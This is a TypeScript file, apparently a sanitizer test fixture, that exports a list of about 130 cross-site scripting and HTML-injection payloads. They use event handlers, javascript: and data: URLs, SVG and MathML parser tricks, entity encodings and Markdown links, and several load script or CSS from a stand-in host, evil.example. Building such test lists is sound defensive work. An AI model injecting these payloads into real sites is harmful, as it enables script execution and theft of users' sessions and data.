/** Ways of making a page run or load something, one a line: by tags, by attributes, by addresses, and by parsers that disagree. */
export const attacks: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<script
>alert(1)</script
>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src="x&#96;onerror=alert(1)">
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<img srcset="https://evil.example/x.png 1x">
<img src="javascript:alert(1)">
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img """><script>alert(1)</script>">
<IMG onmouseover="alert(1)">
<body onload=alert(1)>
<body background="javascript:alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><set attributeName="href" to="javascript:alert(1)">
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe/onload=alert(1)></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code="x.class"></applet>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1) poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<input type=image src=javascript:alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=https://evil.example>x</button></form>
<isindex action=javascript:alert(1) type=image>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058;alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="blob:https://example.org/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example/x">x</a>
<a href="\\evil.example\x">x</a>
<a href="/\evil.example/x">x</a>
<a href="https://example.org" onclick=alert(1)>x</a>
<a href="https://example.org" target=_blank rel=opener ping=https://evil.example>x</a>
<a href='x"onmouseover=alert(1) y="'>x</a>
<a id=x tabindex=1 onfocus=alert(1) style=display:block>x</a>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>
<style>@import "https://evil.example/x.css";</style>
<style>body{background:url("https://evil.example/x")}</style>
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="https://evil.example/x.html">
<link rel=prefetch href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href="javascript:alert(1)//">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<custom-element onclick=alert(1) is=x>x</custom-element>
<p xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></p>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
<ol type="1" start="1" onclick=alert(1)><li value=1 onclick=alert(1)>x</ol>
<time datetime="2020" onclick=alert(1)>x</time>
<img src="asset:a.png" onload=alert(1) alt="x">
<img src="https://images.example.org/x.png" crossorigin onerror=alert(1)>
<img src="https://images.example.org@evil.example/x.png">
<b "<script>alert(1)</script>">x</b>
<b/onclick="alert(1)"/>x</b>
<b
onclick=alert(1)>x</b>
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
![x](javascript:alert(1))
<javascript:alert(1)>
[x]: javascript:alert(1)
`
  .split(/\n(?=[<[!])/)
  .filter((attack) => attack.trim() !== "");
